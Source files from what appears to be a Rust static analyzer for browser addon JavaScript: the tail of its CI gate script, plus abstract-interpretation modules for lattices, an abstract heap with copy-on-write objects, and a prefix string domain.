#      `--json` signature must be byte-identical to a cold run of the
#      edited source,
#  10. the fleet gate: `serve_load --fleet 2 --check` boots a sigfleet
#      coordinator plus two worker nodes over loopback and asserts the
#      fleet invariants in-process (a worker killed mid-job is reaped
#      and its job requeued with the correct verdict, concurrent
#      identical submissions dedup fleet-wide, every response is
#      byte-identical to a cold analysis, and the merged per-node event
#      logs replay as valid lifecycles); the written BENCH_fleet
#      snapshot must show >=1.7x 2-node-over-1-node throughput; the
#      coordinator's metrics history must pass metrics-gate-fleet.json;
#      and the `coordinate`/`--join` CLI surfaces keep the help/exit
#      code contract (--help on stdout exit 0, errors exit nonzero),
#  11. the many-connection gate: the hostile-client suite (slow-loris,
#      never-reading flood, mid-request disconnects) must pass, and
#      `serve_load --connections 10000` must hold 10k mostly-idle
#      connections (in holder subprocesses, under this container's
#      20k-fd cap) with an active cache-hit stream whose p99 stays
#      under 50ms; the daemon's metrics history must pass
#      metrics-gate-conn.json (>=10k accepts, zero backpressure sheds,
#      zero deadline misses),
#  12. the ladder gate: `serve_load --ladder` runs a benign-heavy cold
#      workload through a full-sensitivity daemon and a tiered-ladder
#      daemon; every ladder signature must be byte-identical to the
#      single-tier one, the event log must replay exactly the escalated
#      lifecycles the counters claim, the written BENCH_ladder snapshot
#      must show >=1.3x ladder-over-single throughput, and the ladder
#      daemon's metrics history must pass metrics-gate-ladder.json
#      (tier0 resolves, escalations happen, escalation rate bounded);
#      the `--ladder` CLI surfaces keep their contract (advertised in
#      help, conflicting flags exit nonzero).
set -eu
cd "$(dirname "$0")"

echo "==> tier-1: release build (offline)"
cargo build --release --offline

echo "==> tier-1: root package tests (offline)"
cargo test --offline -q

echo "==> workspace tests (incl. worklist golden + step budgets)"
cargo test --offline --workspace -q

echo "==> bounded fuzz suite (seeded generator, fixed case counts)"
cargo test --offline -q --features fuzz --test fuzz_pipeline

echo "==> perf snapshot (sequential, 3 runs; incl. tracer + attribution overhead gates)"
cargo build --release --offline --workspace
./target/release/perf_snapshot --runs 3 --sequential --out target/BENCH_pipeline.ci.json
grep -q '"trace_overhead_pct"' target/BENCH_pipeline.ci.json
grep -q '"attr_overhead_pct"' target/BENCH_pipeline.ci.json

echo "==> incremental bench (golden identity + <20% single-function-edit gate)"
./target/release/incr_bench --out target/BENCH_incremental.ci.json
grep -q '"step_ratio_pct"' target/BENCH_incremental.ci.json

echo "==> vet --trace smoke test (Perfetto JSON parses, spans nest)"
./target/release/vet --trace target/ci_trace.json crates/corpus/addons/pinpoints.js > /dev/null
./target/release/trace_check target/ci_trace.json

echo "==> vet profile smoke test (hotspot table is deterministic)"
./target/release/vet profile crates/corpus/addons/pinpoints.js --top 5 > target/ci_profile_a.txt
./target/release/vet profile crates/corpus/addons/pinpoints.js --top 5 > target/ci_profile_b.txt
cmp target/ci_profile_a.txt target/ci_profile_b.txt
grep -q 'total worklist steps:' target/ci_profile_a.txt

echo "==> sigserve smoke test (stdio daemon: vet, stats, shutdown)"
serve_out=$(printf '%s\n' \
    '{"kind":"vet","path":"crates/corpus/addons/pinpoints.js"}' \
    '{"kind":"stats"}' \
    '{"kind":"shutdown"}' \
    | ./target/release/vet serve --stdio --workers 2)
echo "$serve_out" | grep -q '"verdict":"ok"'
echo "$serve_out" | grep -q '"kind":"stats"'
echo "$serve_out" | grep -q '"metrics"'
echo "$serve_out" | grep -q '"pipeline_worklist_steps"'
echo "$serve_out" | grep -q '"kind":"shutdown_ack"'

echo "==> sigserve load sanity (serve_load --check, incl. log replay)"
./target/release/serve_load --check

echo "==> metrics exposition smoke test (prom_check)"
printf '%s\n' \
    '{"kind":"vet","path":"crates/corpus/addons/pinpoints.js"}' \
    '{"kind":"metrics"}' \
    '{"kind":"shutdown"}' \
    | ./target/release/vet serve --stdio --workers 2 \
    | ./target/release/prom_check

echo "==> corpus drift gate (same analyzer => zero drift)"
./target/release/vet corpus-snapshot --out target/ci_snap_a.json
./target/release/vet corpus-snapshot --out target/ci_snap_b.json
cmp target/ci_snap_a.json target/ci_snap_b.json
./target/release/vet corpus-diff target/ci_snap_a.json target/ci_snap_b.json > /dev/null
# The incremental oracle: a snapshot taken *through* the per-function
# summary store (populating on the first pass, splicing on the second)
# must be byte-identical to the cold one and show zero drift.
rm -rf target/ci_snap_store
./target/release/vet corpus-snapshot --summary-dir target/ci_snap_store \
    --out target/ci_snap_populate.json
./target/release/vet corpus-snapshot --summary-dir target/ci_snap_store \
    --out target/ci_snap_warm.json
cmp target/ci_snap_a.json target/ci_snap_populate.json
cmp target/ci_snap_a.json target/ci_snap_warm.json
./target/release/vet corpus-diff target/ci_snap_a.json target/ci_snap_warm.json > /dev/null

echo "==> health gate (metrics history + vet metrics-report --gate)"
rm -rf target/ci_metrics
# Two vets of the same addon: the second is a cache hit, so the
# recorded history has completed jobs, a nonzero hit ratio, and a
# serve_vet_us histogram — everything metrics-gate-good.json checks.
# The session also runs under --log-sample to smoke the flag wiring.
printf '%s\n' \
    '{"kind":"vet","path":"crates/corpus/addons/pinpoints.js"}' \
    '{"kind":"vet","path":"crates/corpus/addons/pinpoints.js"}' \
    '{"kind":"shutdown"}' \
    | ./target/release/vet serve --stdio --workers 2 \
        --metrics-dir target/ci_metrics --metrics-interval-ms 60000 \
        --log-level warn --log-sample 8 > /dev/null
./target/release/vet metrics-report target/ci_metrics --gate ci/metrics-gate-good.json
# The cost-attribution rules: the smoke run's queue-wait and analyze
# histograms must exist and keep sane p99s.
./target/release/vet metrics-report target/ci_metrics --gate ci/metrics-gate-profile.json
if ./target/release/vet metrics-report target/ci_metrics --gate ci/metrics-gate-bad.json > /dev/null; then
    echo "ci.sh: violating rules file must exit nonzero" >&2
    exit 1
fi

echo "==> incremental re-vetting gate (one-line patch splices)"
rm -rf target/ci_summaries
# A six-worker addon whose functions each carry a dead `probe` literal;
# the scripted edit patches one literal without changing any value that
# escapes its function — the model of a trivial resubmitted update.
i=0
: > target/ci_incr_base.js
while [ $i -lt 6 ]; do
    cat >> target/ci_incr_base.js <<EOF
function worker$i(seed) {
  var probe = 'probe-$i';
  var tag = 'worker-$i';
  var body = tag + ':' + seed;
  return body + '#' + tag;
}
EOF
    echo "worker$i($((i % 2)));" >> target/ci_incr_base.js
    i=$((i + 1))
done
sed "s/'probe-2'/'probe-2-patched'/" target/ci_incr_base.js > target/ci_incr_edit.js
# Cold vet populates the store; the warm re-vet of the edited source
# must splice the five untouched workers (only worker2 plus the
# top-level code re-analyzes: 2 of 7 functions).
./target/release/vet --summary-dir target/ci_summaries target/ci_incr_base.js > /dev/null
./target/release/vet --summary-dir target/ci_summaries target/ci_incr_edit.js \
    | grep -q '\[summary store: 5 hits, 1 misses, 2/7 functions re-analyzed\]'
# Golden identity: the spliced signature is byte-for-byte the cold one.
./target/release/vet --json target/ci_incr_edit.js > target/ci_incr_cold.json
./target/release/vet --json --summary-dir target/ci_summaries target/ci_incr_edit.js \
    > target/ci_incr_warm.json
cmp target/ci_incr_cold.json target/ci_incr_warm.json

echo "==> fleet gate (coordinator + 2 workers: kill/requeue, dedup, scaling, merged replay)"
rm -rf target/ci_fleet_metrics
./target/release/serve_load --fleet 2 --check \
    --out target/BENCH_fleet.ci.json --metrics-dir target/ci_fleet_metrics
# Near-linear scale-out: 2 nodes must clear 1.7x 1-node throughput.
awk '/"ratio_2v1"/ { gsub(/[,"]/, ""); if ($2 + 0 >= 1.7) ok = 1 }
     END { exit ok ? 0 : 1 }' target/BENCH_fleet.ci.json
# The coordinator's recorded metrics history passes the fleet rules.
./target/release/vet metrics-report target/ci_fleet_metrics --gate ci/metrics-gate-fleet.json
# CLI contract for the fleet surfaces: --help on stdout exit 0; bad
# flags and conflicting modes exit nonzero.
# (plain grep reads the whole help text; -q would close the pipe early
# and the writer would see EPIPE)
./target/release/vet coordinate --help | grep 'vet coordinate' > /dev/null
./target/release/vet serve --help | grep -- '--join' > /dev/null
if ./target/release/vet coordinate --bogus-flag 2> /dev/null; then
    echo "ci.sh: vet coordinate must reject unknown flags" >&2
    exit 1
fi
if ./target/release/vet serve --join 127.0.0.1:7171 --stdio 2> /dev/null; then
    echo "ci.sh: --join plus --stdio must exit nonzero" >&2
    exit 1
fi
if ./target/release/vet coordinate --heartbeat-ms 500 --reap-ms 500 2> /dev/null; then
    echo "ci.sh: reap window within one heartbeat must exit nonzero" >&2
    exit 1
fi

echo "==> many-connection gate (hostile clients + 10k held connections)"
cargo test --offline -q --test hostile_clients
rm -rf target/ci_conn_metrics
./target/release/serve_load --connections 10000 \
    --out target/BENCH_serve_conn.ci.json --metrics-dir target/ci_conn_metrics
# The active stream's p99 through 10k parked connections stays sub-50ms.
awk '/"p99_us"/ { gsub(/[,"]/, ""); if ($2 + 0 < 50000) ok = 1 }
     END { exit ok ? 0 : 1 }' target/BENCH_serve_conn.ci.json
./target/release/vet metrics-report target/ci_conn_metrics --gate ci/metrics-gate-conn.json

echo "==> ladder gate (tiered vetting: byte-identity, escalation replay, >=1.3x)"
rm -rf target/ci_ladder_metrics
./target/release/serve_load --ladder \
    --out target/BENCH_ladder.ci.json --metrics-dir target/ci_ladder_metrics
# Triage at tier 0 must buy real throughput on a benign-heavy queue.
awk '/"ratio_ladder_over_single"/ { gsub(/[,"]/, ""); if ($2 + 0 >= 1.3) ok = 1 }
     END { exit ok ? 0 : 1 }' target/BENCH_ladder.ci.json
# The ladder daemon's recorded metrics history passes the ladder rules
# (tier0 resolves, escalations happen, escalation rate stays bounded).
./target/release/vet metrics-report target/ci_ladder_metrics --gate ci/metrics-gate-ladder.json
# CLI contract: --ladder is advertised, and conflicts exit nonzero.
./target/release/vet serve --help | grep -- '--ladder' > /dev/null
if ./target/release/vet --ladder --trace target/ci_ladder_trace.json \
    crates/corpus/addons/pinpoints.js 2> /dev/null; then
    echo "ci.sh: --ladder plus --trace must exit nonzero" >&2
    exit 1
fi

echo "==> ci.sh: all gates passed"
