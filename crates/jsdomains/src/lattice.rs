//! The lattice abstraction shared by all abstract domains.

/// A join semi-lattice with a partial order, as used by the abstract
/// interpreter. `bottom` is the least element (unreachable / uninitialized).
///
/// Implementations must satisfy the usual laws, which the test-suites of
/// the concrete domains check with `proptest`:
///
/// - `join` is commutative, associative, and idempotent;
/// - `leq` is a partial order consistent with `join`
///   (`a.leq(b) <=> a.join(b) == b`);
/// - `bottom.leq(a)` for all `a`.
pub trait Lattice: Clone + PartialEq {
    /// The least element.
    fn bottom() -> Self;

    /// Least upper bound.
    fn join(&self, other: &Self) -> Self;

    /// Partial order test.
    fn leq(&self, other: &Self) -> bool;

    /// True if this is the least element.
    fn is_bottom(&self) -> bool {
        *self == Self::bottom()
    }

    /// Joins `other` into `self`, returning true if `self` changed.
    /// The workhorse of worklist fixpoints.
    fn join_in_place(&mut self, other: &Self) -> bool {
        let joined = self.join(other);
        if joined == *self {
            false
        } else {
            *self = joined;
            true
        }
    }
}

/// A lattice that also has a greatest element and a meet operation.
pub trait MeetLattice: Lattice {
    /// The greatest element.
    fn top() -> Self;

    /// Greatest lower bound.
    fn meet(&self, other: &Self) -> Self;

    /// True if this is the greatest element.
    fn is_top(&self) -> bool {
        *self == Self::top()
    }
}

#[cfg(all(test, feature = "fuzz"))]
pub(crate) mod laws {
    //! Reusable law checks invoked from each domain's proptest suite.
    use super::*;

    pub fn check_join_laws<L: Lattice + std::fmt::Debug>(a: &L, b: &L, c: &L) {
        assert_eq!(a.join(b), b.join(a), "join commutes");
        assert_eq!(a.join(a), a.clone(), "join idempotent");
        assert_eq!(
            a.join(b).join(c),
            a.join(&b.join(c)),
            "join associative"
        );
        assert!(L::bottom().leq(a), "bottom is least");
        assert!(a.leq(&a.join(b)), "join is an upper bound (left)");
        assert!(b.leq(&a.join(b)), "join is an upper bound (right)");
        assert_eq!(a.leq(b), &a.join(b) == b, "leq consistent with join");
    }

    pub fn check_meet_laws<L: MeetLattice + std::fmt::Debug>(a: &L, b: &L) {
        assert_eq!(a.meet(b), b.meet(a), "meet commutes");
        assert_eq!(a.meet(a), a.clone(), "meet idempotent");
        assert!(a.meet(b).leq(a), "meet is a lower bound (left)");
        assert!(a.meet(b).leq(b), "meet is a lower bound (right)");
        assert!(a.leq(&L::top()), "top is greatest");
    }
}
