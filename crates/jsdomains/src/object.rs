//! Abstract objects and the abstract heap.
//!
//! Objects are summarized per allocation site. Property maps keep exact
//! property names separate from an "unknown-key" summary field, which is
//! what lets the analysis produce *strong* (exact) property read/write
//! sets when the property-name string is exact and the site is a
//! singleton -- the precondition for the paper's `datastrong` edges.

use crate::lattice::Lattice;
use crate::prefix::Pre;
use crate::sym::Sym;
use crate::value::{AValue, AllocSite};
use std::fmt;

/// Index of an analyzed (addon) function, assigned by the analysis layer.
/// This is deliberately opaque to the domains crate.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct FuncIndex(pub u32);

impl fmt::Display for FuncIndex {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "fn#{}", self.0)
    }
}
use std::collections::BTreeMap;
use std::sync::Arc;

/// Identifies a native (browser-provided) function in the analysis's
/// native table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct NativeId(pub u32);

/// What kind of object an allocation site produces.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ObjKind {
    /// A plain object literal / `new Object()`.
    Plain,
    /// An array literal.
    Array,
    /// A closure over the addon function with the given id.
    Function(FuncIndex),
    /// A browser-native function (e.g. `XMLHttpRequest`, `addEventListener`).
    Native(NativeId),
    /// An `arguments`-like or host container object.
    Host(&'static str),
    /// A regex literal.
    Regex,
}

impl ObjKind {
    /// True if calling this object can run code.
    pub fn is_callable(&self) -> bool {
        matches!(self, ObjKind::Function(_) | ObjKind::Native(_))
    }
}

/// An abstract object: property map plus internal slots.
#[derive(Debug, Clone, PartialEq)]
pub struct AObject {
    /// What the object is.
    pub kind: ObjKind,
    /// Properties under exactly-known (interned) names.
    pub props: BTreeMap<Sym, AValue>,
    /// Join of all values written under non-exact names; `AValue::bottom()`
    /// if no such write happened.
    pub unknown_props: AValue,
    /// Internal slots used by the analysis (scope chains, XHR URLs, ...).
    /// Names are crate-conventions like `"@scope"`.
    pub internal: BTreeMap<&'static str, AValue>,
    /// True while the allocation site is known to have produced at most
    /// one concrete object; required for strong property writes.
    pub singleton: bool,
}

impl AObject {
    /// A fresh object of the given kind. Fresh objects are singletons
    /// until the analysis observes re-execution of their allocation site.
    pub fn new(kind: ObjKind) -> AObject {
        AObject {
            kind,
            props: BTreeMap::new(),
            unknown_props: AValue::bottom(),
            internal: BTreeMap::new(),
            singleton: true,
        }
    }

    /// Reads a property under an abstract name. Returns the value joined
    /// over every property the name may denote; includes `undefined` when
    /// the property may be absent.
    pub fn read_prop(&self, name: &Pre) -> AValue {
        match name {
            Pre::Bot => AValue::bottom(),
            Pre::Exact(k) => {
                let mut v = self
                    .props
                    .get(k)
                    .cloned()
                    .unwrap_or_else(AValue::undef);
                if self.props.contains_key(k) && !self.singleton {
                    // A non-singleton site may also hold values from other
                    // instances; reads stay may-reads.
                    v = v.join(&AValue::undef());
                }
                v.join(&self.unknown_props)
            }
            Pre::Prefix(p) => {
                let mut v = AValue::undef();
                for (k, pv) in &self.props {
                    if k.starts_with(p.as_str()) {
                        v = v.join(pv);
                    }
                }
                v.join(&self.unknown_props)
            }
        }
    }

    /// Writes a property under an abstract name. `strong` requests a
    /// strong update (caller must have verified the site is a singleton
    /// and the name exact); weak writes join.
    pub fn write_prop(&mut self, name: &Pre, value: &AValue, strong: bool) {
        match name {
            Pre::Bot => {}
            Pre::Exact(k) => {
                if strong && self.singleton {
                    self.props.insert(*k, value.clone());
                } else {
                    let slot = self.props.entry(*k).or_insert_with(AValue::undef);
                    *slot = slot.join(value);
                }
            }
            Pre::Prefix(_) => {
                // Unknown name: weakly update the summary field and weaken
                // every matching exact property.
                self.unknown_props = self.unknown_props.join(value);
            }
        }
    }

    /// Deletes a property (abstractly: the property may now be absent).
    pub fn delete_prop(&mut self, name: &Pre) {
        if let Pre::Exact(k) = name {
            if self.singleton {
                self.props.remove(k);
                return;
            }
        }
        // Non-exact or non-singleton delete: values may or may not
        // survive; join undefined into possibly-matching slots.
        for (k, v) in self.props.iter_mut() {
            if name.may_be(k) {
                *v = v.join(&AValue::undef());
            }
        }
    }

    /// Marks the object as a summary of multiple concrete objects
    /// (allocation site re-executed). Strong updates stop applying.
    pub fn demote_to_summary(&mut self) {
        self.singleton = false;
    }

    /// Reads an internal slot.
    pub fn internal_slot(&self, name: &'static str) -> AValue {
        self.internal
            .get(name)
            .cloned()
            .unwrap_or_else(AValue::bottom)
    }

    /// Writes an internal slot (strong on singletons, weak otherwise).
    pub fn set_internal_slot(&mut self, name: &'static str, value: AValue) {
        if self.singleton {
            self.internal.insert(name, value);
        } else {
            let slot = self.internal.entry(name).or_insert_with(AValue::bottom);
            *slot = slot.join(&value);
        }
    }

    /// Joins another abstract object into this one (same allocation site,
    /// merging control-flow paths).
    pub fn join_in_place(&mut self, other: &AObject) -> bool {
        debug_assert_eq!(self.kind, other.kind, "same alloc site, same kind");
        let mut changed = false;
        for (k, v) in &other.props {
            match self.props.get_mut(k) {
                Some(slot) => changed |= slot.join_in_place(v),
                None => {
                    // Present on one path only: may be absent.
                    self.props.insert(*k, v.join(&AValue::undef()));
                    changed = true;
                }
            }
        }
        // Props present here but not there may be absent there.
        for (k, v) in self.props.iter_mut() {
            if !other.props.contains_key(k) {
                changed |= v.join_in_place(&AValue::undef());
            }
        }
        changed |= self.unknown_props.join_in_place(&other.unknown_props);
        for (k, v) in &other.internal {
            match self.internal.get_mut(k) {
                Some(slot) => changed |= slot.join_in_place(v),
                None => {
                    self.internal.insert(k, v.clone());
                    changed = true;
                }
            }
        }
        if self.singleton && !other.singleton {
            self.singleton = false;
            changed = true;
        }
        changed
    }
}

impl fmt::Display for AObject {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}{{", self.kind)?;
        for (i, (k, v)) in self.props.iter().enumerate() {
            if i > 0 {
                write!(f, ", ")?;
            }
            write!(f, "{k}: {v}")?;
        }
        write!(f, "}}")?;
        if !self.singleton {
            write!(f, "*")?;
        }
        Ok(())
    }
}

/// The abstract heap: one [`AObject`] per allocation site.
///
/// Objects are stored behind [`Arc`]s so cloning a heap (which the
/// flow-sensitive analysis does at every program point) is shallow;
/// mutation goes through [`Arc::make_mut`], copying only the objects that
/// actually change (copy-on-write).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Heap {
    objects: BTreeMap<AllocSite, Arc<AObject>>,
}

thread_local! {
    /// Objects copied by copy-on-write before a mutation, on this thread.
    /// A thread-local (not a `Heap` field) because the count is a
    /// whole-analysis observability metric: one base-analysis run clones
    /// heaps across thousands of program points, and each `analyze()`
    /// call runs on a single thread. Read it with [`cow_clone_count`].
    static COW_CLONES: std::cell::Cell<u64> = const { std::cell::Cell::new(0) };
}

/// Monotonic per-thread count of abstract objects copied by
/// copy-on-write (an `Arc::make_mut` that found its object shared).
/// Callers measure a region by differencing two reads.
pub fn cow_clone_count() -> u64 {
    COW_CLONES.with(|c| c.get())
}

/// Bumps the CoW counter if `make_mut` on this object is about to copy.
fn note_cow(obj: &Arc<AObject>) {
    if Arc::strong_count(obj) > 1 {
        COW_CLONES.with(|c| c.set(c.get() + 1));
    }
}

impl Heap {
    /// An empty heap.
    pub fn new() -> Heap {
        Heap::default()
    }

    /// Allocates or re-visits an allocation site. On re-visit the existing
    /// object is demoted to a summary and joined with a fresh object.
    pub fn alloc(&mut self, site: AllocSite, kind: ObjKind) -> AllocSite {
        match self.objects.get_mut(&site) {
            Some(existing) => {
                note_cow(existing);
                let existing = Arc::make_mut(existing);
                existing.demote_to_summary();
                // Fresh instance has no props: all existing props may be
                // absent in the new instance.
                let fresh = AObject {
                    singleton: false,
                    ..AObject::new(existing.kind.clone())
                };
                existing.join_in_place(&fresh);
            }
            None => {
                self.objects.insert(site, Arc::new(AObject::new(kind)));
            }
        }
        site
    }

    /// Looks up an object.
    pub fn get(&self, site: AllocSite) -> Option<&AObject> {
        self.objects.get(&site).map(|a| &**a)
    }

    /// Looks up an object mutably (copy-on-write).
    pub fn get_mut(&mut self, site: AllocSite) -> Option<&mut AObject> {
        self.objects.get_mut(&site).map(|obj| {
            note_cow(obj);
            Arc::make_mut(obj)
        })
    }

    /// Iterates over all objects.
    pub fn iter(&self) -> impl Iterator<Item = (&AllocSite, &AObject)> {
        self.objects.iter().map(|(s, a)| (s, &**a))
    }

    /// Number of live abstract objects.
    pub fn len(&self) -> usize {
        self.objects.len()
    }

    /// True if no object has been allocated.
    pub fn is_empty(&self) -> bool {
        self.objects.is_empty()
    }

    /// Joins another heap into this one. Returns true if anything changed.
    pub fn join_in_place(&mut self, other: &Heap) -> bool {
        let mut changed = false;
        for (site, obj) in &other.objects {
            match self.objects.get_mut(site) {
                Some(mine) => {
                    if Arc::ptr_eq(mine, obj) {
                        continue; // identical shared object: no-op join
                    }
                    note_cow(mine);
                    changed |= Arc::make_mut(mine).join_in_place(obj);
                }
                None => {
                    self.objects.insert(*site, Arc::clone(obj));
                    changed = true;
                }
            }
        }
        changed
    }

    /// Recency aging: moves the object at `from` to `to` (merging into any
    /// existing summary there, demoted to non-singleton) and rewrites every
    /// reference to `from` anywhere in the heap into `to`. Afterwards
    /// `from` is unallocated and may be re-bound to a fresh instance.
    pub fn rename_site(&mut self, from: AllocSite, to: AllocSite) {
        if let Some(old) = self.objects.remove(&from) {
            note_cow(&old);
            let mut old = Arc::unwrap_or_clone(old);
            old.demote_to_summary();
            match self.objects.get_mut(&to) {
                Some(summary) => {
                    note_cow(summary);
                    Arc::make_mut(summary).join_in_place(&old);
                }
                None => {
                    self.objects.insert(to, Arc::new(old));
                }
            }
        }
        for obj in self.objects.values_mut() {
            // Only copy objects that actually hold a reference to `from`.
            let holds = obj.props.values().any(|v| v.objs.contains(&from))
                || obj.unknown_props.objs.contains(&from)
                || obj.internal.values().any(|v| v.objs.contains(&from));
            if !holds {
                continue;
            }
            note_cow(obj);
            let obj = Arc::make_mut(obj);
            for v in obj.props.values_mut() {
                v.rename_site(from, to);
            }
            obj.unknown_props.rename_site(from, to);
            for v in obj.internal.values_mut() {
                v.rename_site(from, to);
            }
        }
    }

    /// Partial-order check against another heap.
    pub fn leq(&self, other: &Heap) -> bool {
        self.objects.iter().all(|(site, obj)| {
            other.objects.get(site).is_some_and(|o| {
                if Arc::ptr_eq(obj, o) {
                    return true;
                }
                let mut merged = (**o).clone();
                !merged.join_in_place(obj)
            })
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn site(n: u32) -> AllocSite {
        AllocSite(n)
    }

    #[test]
    fn exact_prop_round_trip() {
        let mut o = AObject::new(ObjKind::Plain);
        o.write_prop(&Pre::exact("url"), &AValue::str("x"), true);
        let v = o.read_prop(&Pre::exact("url"));
        assert_eq!(v, AValue::str("x"));
    }

    #[test]
    fn absent_prop_reads_undefined() {
        let o = AObject::new(ObjKind::Plain);
        assert_eq!(o.read_prop(&Pre::exact("nope")), AValue::undef());
    }

    #[test]
    fn prefix_read_joins_matching_props() {
        let mut o = AObject::new(ObjKind::Plain);
        o.write_prop(&Pre::exact("aa"), &AValue::num(1.0), true);
        o.write_prop(&Pre::exact("ab"), &AValue::num(2.0), true);
        o.write_prop(&Pre::exact("zz"), &AValue::num(9.0), true);
        let v = o.read_prop(&Pre::prefix("a"));
        // May be absent (some string starting with 'a' that isn't a key).
        assert!(v.undef);
        assert_eq!(v.nums, crate::consts::NumDom::Top); // 1.0 join 2.0
        let all = o.read_prop(&Pre::any());
        assert_eq!(all.nums, crate::consts::NumDom::Top);
    }

    #[test]
    fn weak_write_joins() {
        let mut o = AObject::new(ObjKind::Plain);
        o.write_prop(&Pre::exact("p"), &AValue::num(1.0), true);
        o.write_prop(&Pre::exact("p"), &AValue::num(2.0), false);
        let v = o.read_prop(&Pre::exact("p"));
        assert_eq!(v.nums, crate::consts::NumDom::Top);
    }

    #[test]
    fn strong_write_on_summary_degrades_to_weak() {
        let mut o = AObject::new(ObjKind::Plain);
        o.write_prop(&Pre::exact("p"), &AValue::num(1.0), true);
        o.demote_to_summary();
        o.write_prop(&Pre::exact("p"), &AValue::num(2.0), true);
        let v = o.read_prop(&Pre::exact("p"));
        assert_eq!(v.nums, crate::consts::NumDom::Top, "no strong update on summaries");
    }

    #[test]
    fn unknown_name_write_pollutes_reads() {
        let mut o = AObject::new(ObjKind::Plain);
        o.write_prop(&Pre::any(), &AValue::str("secret"), false);
        let v = o.read_prop(&Pre::exact("whatever"));
        assert!(v.may_be_string());
    }

    #[test]
    fn delete_on_singleton_removes() {
        let mut o = AObject::new(ObjKind::Plain);
        o.write_prop(&Pre::exact("p"), &AValue::num(1.0), true);
        o.delete_prop(&Pre::exact("p"));
        assert_eq!(o.read_prop(&Pre::exact("p")), AValue::undef());
    }

    #[test]
    fn delete_on_summary_weakens() {
        let mut o = AObject::new(ObjKind::Plain);
        o.write_prop(&Pre::exact("p"), &AValue::num(1.0), true);
        o.demote_to_summary();
        o.delete_prop(&Pre::exact("p"));
        let v = o.read_prop(&Pre::exact("p"));
        assert!(v.undef && v.nums != crate::consts::NumDom::Bot);
    }

    #[test]
    fn heap_realloc_demotes() {
        let mut h = Heap::new();
        h.alloc(site(0), ObjKind::Plain);
        h.get_mut(site(0))
            .unwrap()
            .write_prop(&Pre::exact("p"), &AValue::num(1.0), true);
        assert!(h.get(site(0)).unwrap().singleton);
        h.alloc(site(0), ObjKind::Plain);
        let o = h.get(site(0)).unwrap();
        assert!(!o.singleton);
        // Old prop may be absent on the fresh instance.
        assert!(o.read_prop(&Pre::exact("p")).undef);
    }

    #[test]
    fn heap_join() {
        let mut a = Heap::new();
        a.alloc(site(0), ObjKind::Plain);
        a.get_mut(site(0))
            .unwrap()
            .write_prop(&Pre::exact("p"), &AValue::num(1.0), true);
        let mut b = Heap::new();
        b.alloc(site(0), ObjKind::Plain);
        b.get_mut(site(0))
            .unwrap()
            .write_prop(&Pre::exact("q"), &AValue::num(2.0), true);
        let mut j = a.clone();
        assert!(j.join_in_place(&b));
        assert!(!j.join_in_place(&b), "idempotent");
        let o = j.get(site(0)).unwrap();
        // p present in a only: may be absent.
        assert!(o.read_prop(&Pre::exact("p")).undef);
        assert!(o.read_prop(&Pre::exact("q")).undef);
        assert!(a.leq(&j) && b.leq(&j));
        assert!(!j.leq(&a));
    }

    #[test]
    fn object_join_prop_sets_differ() {
        let mut a = AObject::new(ObjKind::Plain);
        a.write_prop(&Pre::exact("x"), &AValue::num(1.0), true);
        let b = AObject::new(ObjKind::Plain);
        let mut j = a.clone();
        assert!(j.join_in_place(&b));
        assert!(j.read_prop(&Pre::exact("x")).undef);
    }

    #[test]
    fn internal_slots() {
        let mut o = AObject::new(ObjKind::Host("xhr"));
        o.set_internal_slot("@url", AValue::str("http://a.com"));
        assert_eq!(o.internal_slot("@url"), AValue::str("http://a.com"));
        assert_eq!(o.internal_slot("@missing"), AValue::bottom());
        o.demote_to_summary();
        o.set_internal_slot("@url", AValue::str("http://b.com"));
        let v = o.internal_slot("@url");
        assert_eq!(v.strs, Pre::prefix("http://"));
    }

    #[test]
    fn callable_kinds() {
        assert!(ObjKind::Function(FuncIndex(0)).is_callable());
        assert!(ObjKind::Native(NativeId(0)).is_callable());
        assert!(!ObjKind::Plain.is_callable());
        assert!(!ObjKind::Array.is_callable());
    }
}
