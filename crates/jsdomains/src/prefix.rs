//! The prefix string abstract domain of Section 5 of the paper.
//!
//! The domain is `Pre = (String x Boolean) + bottom`: an element `(str, b)`
//! with `b = true` means *exactly* the string `str`; `b = false` means
//! *some string with prefix* `str`. Bottom represents an uninitialized
//! string value and top is `("", false)` (every string has the empty
//! prefix). Tracking exact strings, not just prefixes, matters because the
//! same domain doubles as the property-name domain of the base analysis
//! (the paper's key precision observation over Costantini et al.).
//!
//! Elements carry interned [`Sym`]s, which makes the whole domain `Copy`:
//! joins, equality tests, and property-name comparisons in the
//! interpreter's hot path never allocate.

use crate::lattice::{Lattice, MeetLattice};
use crate::sym::Sym;
use std::fmt;

/// An element of the prefix string domain.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Pre {
    /// No string at all (uninitialized).
    Bot,
    /// Exactly the contained string: `(str, true)` in the paper.
    Exact(Sym),
    /// Any string starting with the contained prefix: `(str, false)`.
    Prefix(Sym),
}

impl Pre {
    /// The top element: all possible strings.
    pub fn any() -> Pre {
        Pre::Prefix(Sym::empty())
    }

    /// An exact string.
    pub fn exact(s: impl AsRef<str>) -> Pre {
        Pre::Exact(Sym::intern(s.as_ref()))
    }

    /// A known prefix of an otherwise unknown string.
    pub fn prefix(s: impl AsRef<str>) -> Pre {
        Pre::Prefix(Sym::intern(s.as_ref()))
    }

    /// True if this element denotes exactly one string.
    pub fn is_exact(&self) -> bool {
        matches!(self, Pre::Exact(_))
    }

    /// The exact string, if this element is exact.
    pub fn as_exact(&self) -> Option<&'static str> {
        match self {
            Pre::Exact(s) => Some(s.as_str()),
            _ => None,
        }
    }

    /// The known text (exact string or prefix); `None` for bottom.
    pub fn known_text(&self) -> Option<&'static str> {
        match self {
            Pre::Bot => None,
            Pre::Exact(s) | Pre::Prefix(s) => Some(s.as_str()),
        }
    }

    /// Membership in the concretization: could this abstract element
    /// describe the concrete string `s`?
    pub fn may_be(&self, s: &str) -> bool {
        match self {
            Pre::Bot => false,
            Pre::Exact(e) => *e == s,
            Pre::Prefix(p) => s.starts_with(p.as_str()),
        }
    }

    /// Abstract string concatenation, the `+` of Section 5:
    ///
